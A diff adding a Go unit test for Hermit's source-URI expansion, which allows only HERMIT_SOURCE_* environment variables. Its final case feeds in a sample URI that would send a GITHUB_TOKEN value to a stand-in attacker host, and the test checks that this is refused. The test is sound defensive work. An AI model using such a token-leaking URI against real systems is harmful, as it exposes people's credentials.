@@ -0,0 +1,35 @@
+package sources_test
+
+import (
+	"testing"
+
+	"github.com/alecthomas/assert/v2"
+
+	"github.com/cashapp/hermit/sources"
+)
+
+func TestExpandURI(t *testing.T) {
+	t.Setenv("HERMIT_SOURCE_HOST", "mirror.example.com")
+	t.Setenv("HERMIT_SOURCE_EMPTY", "")
+
+	uri, err := sources.ExpandURI("https://${HERMIT_SOURCE_HOST}/packages.git")
+	assert.NoError(t, err)
+	assert.Equal(t, "https://mirror.example.com/packages.git", uri)
+
+	uri, err = sources.ExpandURI("env:///packages${HERMIT_SOURCE_EMPTY}")
+	assert.NoError(t, err)
+	assert.Equal(t, "env:///packages", uri)
+
+	// Only the braced form is expanded.
+	uri, err = sources.ExpandURI("https://example.com/$HERMIT_SOURCE_HOST.git")
+	assert.NoError(t, err)
+	assert.Equal(t, "https://example.com/$HERMIT_SOURCE_HOST.git", uri)
+
+	_, err = sources.ExpandURI("https://${HERMIT_SOURCE_MISSING}/${HERMIT_SOURCE_HOST}/${HERMIT_SOURCE_GONE}.git")
+	assert.EqualError(t, err, `source "https://${HERMIT_SOURCE_MISSING}/${HERMIT_SOURCE_HOST}/${HERMIT_SOURCE_GONE}.git" references undefined environment variable(s) $HERMIT_SOURCE_MISSING, $HERMIT_SOURCE_GONE`)
+
+	// Other variables can not be referenced, so their values can not leak.
+	t.Setenv("GITHUB_TOKEN", "secret")
+	_, err = sources.ExpandURI("https://evil.example.com/${GITHUB_TOKEN}")
+	assert.EqualError(t, err, `source "https://evil.example.com/${GITHUB_TOKEN}" references environment variable(s) $GITHUB_TOKEN, only HERMIT_SOURCE_* variables can be used`)
+}